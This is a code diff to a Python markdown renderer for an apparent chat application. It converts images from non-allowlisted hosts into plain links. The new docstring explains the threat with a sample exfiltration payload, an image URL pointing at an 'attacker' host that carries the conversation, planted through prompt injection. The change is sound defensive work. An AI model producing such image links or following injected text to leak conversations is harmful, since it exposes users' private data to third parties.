@@ -18,10 +18,13 @@ from __future__ import annotations
 import re
 import sys
 from typing import Any, BinaryIO
+from urllib.parse import urlsplit
+from xml.etree.ElementTree import Element
 
 import markdown
 import nh3
 from django.utils.html import escape
+from markdown.treeprocessors import Treeprocessor
 
 ALLOWED_TAGS = {
     "a",
@@ -153,8 +156,37 @@ def _linear(processor: Any) -> None:
     processor.__class__ = _linear_classes[cls]
 
 
-def _markdown_to_html(text: str) -> str:
+class _ImagesAsLinks(Treeprocessor):  # type: ignore[misc]
+    """An image from another origin would be fetched by every reader's browser the moment the
+    reply shows, with whatever a prompt injection put in its URL (`![x](https://attacker/?q=
+    <the conversation>)`): so it becomes a link, followed only if the reader clicks, unless
+    its host is one the operator allows (CHAT_IMAGE_HOSTS). The page's Content-Security-Policy
+    refuses other hosts' images as well, in replies rendered before this rule too."""
+
+    def __init__(self, md: markdown.Markdown, hosts: frozenset[str]) -> None:
+        super().__init__(md)
+        self.hosts = hosts
+
+    def run(self, root: Element) -> None:
+        for img in list(root.iter("img")):
+            src = img.get("src", "")
+            if _allowed_host(urlsplit(src).hostname, self.hosts) and src.startswith("https://"):
+                continue
+            alt = img.get("alt") or src
+            img.tag = "a"
+            img.attrib = {"href": src}
+            img.text = alt
+
+
+def _allowed_host(host: str | None, hosts: frozenset[str]) -> bool:
+    if not host:
+        return False
+    return host in hosts or any(h.startswith(".") and host.endswith(h) for h in hosts)
+
+
+def _markdown_to_html(text: str, image_hosts: frozenset[str] = frozenset()) -> str:
     md = markdown.Markdown(extensions=_EXTENSIONS, extension_configs=_EXTENSION_CONFIGS)
+    md.treeprocessors.register(_ImagesAsLinks(md, image_hosts), "images_as_links", 5)
     # Escape raw HTML instead of passing it through: the sanitizer would drop it, and the
     # words with it.
     md.preprocessors.deregister("html_block")
@@ -178,11 +210,12 @@ def sanitize(html: str) -> str:
     return clean
 
 
-def render_markdown(text: str) -> str:
-    """Markdown source to HTML that is safe to insert into the page as it is."""
+def render_markdown(text: str, image_hosts: frozenset[str] = frozenset()) -> str:
+    """Markdown source to HTML that is safe to insert into the page as it is. Images show
+    only from `image_hosts` (over https); others are links."""
     if not text:
         return ""
-    return sanitize(_markdown_to_html(text))
+    return sanitize(_markdown_to_html(text, image_hosts))
 
 
 def plain_html(text: str) -> str:
@@ -197,7 +230,7 @@ def render_plain(text: str) -> str:
     return escape(text)
 
 
-def serve(stdin: BinaryIO, stdout: BinaryIO) -> None:
+def serve(stdin: BinaryIO, stdout: BinaryIO, image_hosts: frozenset[str]) -> None:
     """A render worker (chat/server/renderer.py): markdown in, sanitized HTML out, each
     message a 4-byte big-endian length and that many bytes of UTF-8, until stdin closes.
     An empty message first says the worker is ready."""
@@ -206,10 +239,12 @@ def serve(stdin: BinaryIO, stdout: BinaryIO) -> None:
     stdout.flush()
     while header := stdin.read(4):
         text = stdin.read(int.from_bytes(header, "big")).decode("utf-8", "replace")
-        html = render_markdown(text).encode()
+        html = render_markdown(text, image_hosts).encode()
         stdout.write(len(html).to_bytes(4, "big") + html)
         stdout.flush()
 
 
 if __name__ == "__main__":
-    serve(sys.stdin.buffer, sys.stdout.buffer)
+    # argv: the hosts whose images may show (CHAT_IMAGE_HOSTS), comma-separated.
+    hosts = frozenset(h for h in (sys.argv[1] if len(sys.argv) > 1 else "").split(",") if h)
+    serve(sys.stdin.buffer, sys.stdout.buffer, hosts)
